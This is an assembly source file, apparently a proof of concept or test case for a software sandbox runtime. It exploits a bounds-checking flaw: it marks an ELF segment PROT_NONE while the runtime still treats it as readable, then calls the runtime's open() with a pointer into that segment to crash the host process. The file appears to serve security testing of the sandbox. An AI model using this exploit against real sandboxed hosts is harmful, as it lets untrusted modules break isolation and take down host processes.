# noneseg.s: with noneseg_patch.py, the module's first PT_LOAD segment (ELF
# header, dynamic symbols, read-only data) gets p_flags 0. The loader maps it
# PROT_NONE, but build_ranges (instance.c) lists every non-writable segment
# as readable sandbox memory, so sfi_ptr/sfi_copy_string_out accept a
# pointer into it and the runtime's own system interface faults in host
# code: open() with a path there kills the host (SIGSEGV outside the
# sandbox is chained to the default action).
        .text
        .p2align 4, 0xcc
        .globl attack
        .type attack,@function
attack:
        subq $8, %rsp
        leaq str(%rip), %rdi
        xorl %esi, %esi
        xorl %edx, %edx
        call *__sfi_sys_open@GOTPCREL(%rip)
        addq $8, %rsp
        ret

        .section .rodata,"a",@progbits
str:    .asciz "x"

        .include "marker.inc"
        .section .note.GNU-stack,"",@progbits
